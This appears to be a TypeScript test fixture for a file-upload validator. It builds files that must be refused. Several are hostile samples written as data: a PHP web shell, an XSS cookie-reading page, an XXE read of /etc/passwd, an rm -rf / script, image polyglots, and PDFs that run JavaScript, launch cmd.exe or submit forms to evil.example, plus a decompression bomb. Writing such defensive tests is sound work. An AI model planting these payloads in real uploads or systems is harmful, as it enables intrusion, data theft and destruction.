import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { badWord } from './bad-word.ts';
import { createBankPdf, createPicture } from './good-files.ts';
import { bomb, packed, pdfWith, streamOf } from './pdf.ts';

/** A file that must be refused. `looks`: type by first bytes; `why`: expected refusal. */
export type BadFile = {
  readonly what: string;
  readonly bytes: Buffer;
  readonly looks: string | null;
  readonly why: string;
};

type Rest = readonly [bytes: Buffer | string, looks?: string | null, why?: string];
const bad = (what: string, ...[bytes, looks = null, why = 'unsupported']: Rest): BadFile => ({
  what,
  bytes: Buffer.from(bytes),
  looks,
  why,
});
const hex = (text: string, length = 200) =>
  Buffer.concat([Buffer.from(text.replaceAll(' ', ''), 'hex'), Buffer.alloc(length)]);

const html = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const php = '<?php system($_GET["c"]); ?>';

export function zip(files: Readonly<Record<string, string>>): Buffer {
  const entries: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [name, text] of Object.entries(files)) {
    const size = Buffer.byteLength(text);
    const metadata = Buffer.alloc(26);
    metadata.writeUInt16LE(20, 0);
    metadata.writeUInt32LE(crc32(text), 10);
    metadata.writeUInt32LE(size, 14);
    metadata.writeUInt32LE(size, 18);
    metadata.writeUInt16LE(name.length, 22);
    const entry = Buffer.concat([Buffer.from('PK\x03\x04'), metadata, Buffer.from(name + text)]);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), metadata, place, Buffer.from(name)]));
    entries.push(entry);
    at += entry.length;
  }
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(Buffer.concat(directory).length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...entries, ...directory, end]);
}

const otherTypes = (): BadFile[] => [
  bad('a single byte', 'x'),
  bad('a text', 'I swear that I am Marcia Henry.\n'),
  bad('a page', html),
  bad('a page behind white space', `\ufeff\n\n   ${html}`),
  bad(
    'XML',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'application/xml',
  ),
  bad('an SVG', svg),
  bad('an SVG with its head', `<?xml version="1.0"?>\n${svg}`, 'application/xml'),
  bad('a packed SVG', gzipSync(svg), 'application/gzip'),
  bad('a script of a page', 'fetch("/api/rpc/accounts/viewer").then(console.log)'),
  bad('PHP', php),
  bad('a shell script', '#!/bin/sh\nrm -rf /\n'),
  bad('a Python script', '#!/usr/bin/env python3\nprint(1)\n'),
  bad('a program for Windows', hex('4d5a9000 03000000'), 'application/x-msdownload'),
  bad('a program for Linux', hex('7f454c46 020101'), 'application/x-elf'),
  bad('a Java class', hex('cafebabe 00000034'), 'application/java-vm'),
  bad('a ZIP archive', zip({ 'x.txt': 'x' }), 'application/zip'),
  bad('a Word document', zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }), 'application/zip'),
  bad('an old Word document', hex('d0cf11e0a1b11ae1', 2000), 'application/x-cfb'),
  bad('RTF', '{\\rtf1\\ansi hello}', 'application/rtf'),
  bad('a RAR archive', hex('526172211a070100'), 'application/x-rar-compressed'),
  bad('a 7z archive', hex('377abcaf271c0004'), 'application/x-7z-compressed'),
  bad('PostScript', '%!PS-Adobe-3.0\n(x) run\n', 'application/postscript'),
  bad('a mail', 'From: a@b\nContent-Type: text/html\n\n<b>x</b>'),
  bad('a BMP', hex('424d 36000000 00000000 36000000 28000000'), 'image/bmp'),
  bad('a HEIC', hex('00000018 66747970 68656963 00000000 6d696631 68656963'), 'image/heic'),
  bad('an AVIF', hex('00000018 66747970 61766966 00000000 6d696631 61766966'), 'image/avif'),
  bad('a film', hex('00000018 66747970 6d703432 00000000 6d703432 69736f6d'), 'video/mp4'),
  bad('a sound', hex('494433 0300000000 000f'), 'audio/mpeg'),
  bad('an icon', hex('00000100 01001010'), 'image/x-icon'),
  bad('a Photoshop picture', hex('38425053 0001'), 'image/vnd.adobe.photoshop'),
  bad('a GIF that is a script', 'GIF89a=1;alert(1)//', 'image/gif'),
];

async function pictures(): Promise<BadFile[]> {
  const [png, jpeg, webp, gif, tiff] = await Promise.all([
    createPicture(60, 40).png().toBuffer(),
    createPicture(60, 40).jpeg().toBuffer(),
    createPicture(60, 40).webp({ lossless: true }).toBuffer(),
    createPicture(60, 40).gif().toBuffer(),
    createPicture(60, 40).tiff().toBuffer(),
  ]);
  const [PNG, JPEG, WEBP] = ['image/png', 'image/jpeg', 'image/webp'];
  const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
  const flipped = Buffer.from(png);
  for (let at = 60; at < 90; at++) flipped[at] = (flipped[at] ?? 0) ^ 0x5a;
  const comment = Buffer.concat([jpeg.subarray(0, 2), hex('fffe 001e', 0), Buffer.from(php), jpeg.subarray(2)]);
  return [
    bad('a GIF', gif, 'image/gif'),
    bad('a TIFF', tiff, 'image/tiff'),
    bad('the first bytes of a PNG', hex('89504e470d0a1a0a')),
    bad('a PNG with a page in it', `\x89PNG\r\n\x1a\n${html}`, null),
    bad('the first bytes of a JPEG', hex('ffd8ffe0 00104a464946'), JPEG, 'unreadable'),
    bad('half a PNG', half(png), PNG, 'unreadable'),
    bad('half a JPEG', half(jpeg), JPEG, 'unreadable'),
    bad('half a WebP', half(webp), WEBP, 'unreadable'),
    bad('a PNG with wrong sums', flipped, PNG, 'unreadable'),
    bad('a JPEG that is a ZIP archive', Buffer.concat([jpeg, zip({ 'x.html': html })]), JPEG, 'mixed'),
    bad('a JPEG with PHP in its comment', comment, JPEG, 'mixed'),
    bad('a PNG with PHP behind it', Buffer.concat([png, Buffer.from(php)]), PNG, 'mixed'),
    bad('a PNG with a page behind it', Buffer.concat([png, Buffer.from(html)]), PNG, 'mixed'),
    bad('a WebP with a script behind it', Buffer.concat([webp, Buffer.from('<ScRiPt>x')]), WEBP, 'mixed'),
    bad('a PNG of 10,000 × 10,000', await flood('png'), PNG, 'too_many_pixels'),
    bad('a JPEG of 10,000 × 10,000', await flood('jpeg'), JPEG, 'too_many_pixels'),
  ];
}

const flood = (kind: 'png' | 'jpeg') =>
  createPicture(10, 10)
    .resize({ width: 10_000, height: 10_000, kernel: 'nearest', fit: 'fill' })
    .toFormat(kind)
    .toBuffer();

const script = '/S /JavaScript /JS (app.alert(1))';
const open = (action: string) => pdfWith('/OpenAction 10 0 R', [action]);
const packedScript = packed(`<< ${script} >>`).toString('latin1');
const asStream = (dictionary: string, data: string) => streamOf(dictionary, Buffer.from(data, 'latin1'));

type Bad = (what: string, bytes: Buffer) => BadFile;

const buildHiddenContent = (active: Bad, unreadable: Bad): BadFile[] => [
  active('an address to open', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')),
  active('an address to open elsewhere', open('<< /Type /Action /S /URI /URI (https://evil.example) >>')),
  active('an address behind a page to open', open('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>')),
  active('an address to open in disguise', pdfWith('/Open#41ction << /S /URI /URI (https://evil.example) >>')),
  active('a packed address to open', pdfWith('', [packed('<< /OpenAction << /S /URI /URI (x) >> >>')])),
  active('something to open that is nowhere', pdfWith('/OpenAction 77 0 R')),
  active('another file to open', pdfWith('/OpenAction << /S /GoToR /F (//evil.example/x) >>')),
  active('another file behind a link', pdfWith('', ['<< /Subtype /Link /A << /S /GoToR /F (x.pdf) >> >>'])),
  active('own actions', pdfWith('/AA << /WC << /S /URI /URI (x) >> >>')),
  active('an attached note', pdfWith('', ['<< /Type /Annot /Subtype /FileAttachment /FS 11 0 R >>'])),
  active('a file in a file', pdfWith('', ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>'])),
  active('data to import', pdfWith('/OpenAction << /S /ImportData /F (x) >>')),
  active('scripts by name', pdfWith('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>')),
  active('rich media', pdfWith('', ['<< /Subtype /RichMedia >>'])),
  active('a film', pdfWith('', ['<< /Subtype /Movie /Movie << /F (x.avi) >> >>'])),
  active('a sound', pdfWith('', ['<< /S /Sound /Sound 11 0 R >>'])),
  unreadable('a PDF with objects in a stream', pdfWith('', [asStream('<<', `20 0 obj\n${packedScript}\nendobj`)])),
  unreadable(
    'a PDF with objects in a picture',
    pdfWith('', [asStream('<< /Subtype /Image', `20 0 obj % x\n${packedScript}\nendobj`)]),
  ),
  unreadable('a PDF with objects in a text', pdfWith('', [`<< /T (20 0 obj ${packedScript} endobj) >>`])),
  unreadable('a PDF with objects in a remark', pdfWith('', [`% 20 0 obj << /Type /ObjStm\n<< /A 1 >>`])),
  ...['/F /Fl', '/F [/Fl]', '/Filter /Fl /F /AHx', '/Filter [/AHx /Fl]', '/Filter [/A85 /Fl]', '/Filter /LZW'].map(
    (filter) =>
      unreadable(
        `a PDF packed by ${filter}`,
        pdfWith('', [streamOf(`<< /Type /ObjStm /N 1 /First 5 ${filter}`, deflateSync(Buffer.alloc(20, 1)))]),
      ),
  ),
  unreadable('a PDF packed with parameters defined elsewhere', pdfWith('', [packed('<< >>', '/DecodeParms 11 0 R')])),
  unreadable('a PDF with two beginnings', pdfWith('', [packed('<< >>', '/First 300')])),
];
async function documents(): Promise<BadFile[]> {
  const good = pdfWith('');
  const pdf = (what: string, bytes: Buffer, why: string) => bad(what, bytes, 'application/pdf', why);
  const active = (what: string, bytes: Buffer) => pdf(`a PDF with ${what}`, bytes, 'pdf_active');
  return [
    pdf('the first bytes of a PDF', Buffer.from('%PDF-1.7\n'), 'unreadable'),
    pdf('half a PDF', good.subarray(0, good.length - 40), 'unreadable'),
    pdf('a PDF of no such version', Buffer.from(`%PDF-x${good.toString('latin1').slice(6)}`, 'latin1'), 'unsupported'),
    bad('a PDF behind a page', Buffer.concat([Buffer.from(html), good])),
    pdf('a PDF that is a page', Buffer.concat([Buffer.from(`%PDF-1.7\n%${html}\n`), good.subarray(9)]), 'mixed'),
    pdf('a PDF that is a ZIP archive', Buffer.concat([good, zip({ x: 'y' })]), 'mixed'),
    pdf('a PDF with something behind it', Buffer.concat([good, Buffer.from('hidden '.repeat(90))]), 'mixed'),
    pdf('a PDF with much behind it', Buffer.concat([good, Buffer.alloc(9_000, 65)]), 'unreadable'),
    pdf('a PDF with a password', await createBankPdf('secret'), 'pdf_locked'),
    pdf('a PDF locked in disguise', pdfWith('', [], '/#45ncr#79pt 9 0 R'), 'pdf_locked'),
    active('a script', pdfWith(`/OpenAction << ${script} >>`)),
    active('a script in disguise', pdfWith('/OpenAction << /S /J#61v#61Script /#4aS (x) >>')),
    active('a script by its short name', pdfWith('/OpenAction << /S /Unknown /JS (x) >>')),
    active('a packed script', pdfWith('', [packed(`<< ${script} >>`)])),
    active('a packed script in disguise', pdfWith('', [packed('<< /S /#4aavaScript /J#53 (x) >>', '/X (endobj)')])),
    active(
      'an openly streamed script',
      pdfWith('', [streamOf('<< /Type /ObjStm /N 1 /First 5', Buffer.from('20 0 << /JS (x) >>'))]),
    ),
    active('a program to start', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    active(
      'an attachment',
      pdfWith('/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>', ['<< /Type /Filespec >>']),
    ),
    active('a form that is a program', pdfWith('/AcroForm << /XFA [(x) 10 0 R] >>')),
    active('a form that sends', pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example) >>')),
    ...buildHiddenContent(active, (what, bytes) => pdf(what, bytes, 'unreadable')),
    pdf(
      'a PDF with packing that checkers skip',
      pdfWith('', [packed('<< >>', '/DecodeParms << /Predictor 12 >>')]),
      'unreadable',
    ),
    pdf(
      'a PDF packed twice',
      pdfWith('', [
        streamOf('<< /Type /Obj#53tm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00>')),
      ]),
      'unreadable',
    ),
    pdf('a PDF that unpacks to 100 MB', pdfWith('', [bomb(100)]), 'unreadable'),
  ];
}

export const badFiles = async (): Promise<readonly BadFile[]> => [
  bad('nothing at all', '', null, 'empty'),
  ...otherTypes(),
  ...(await pictures()),
  ...(await documents()),
  ...badWord(),
];
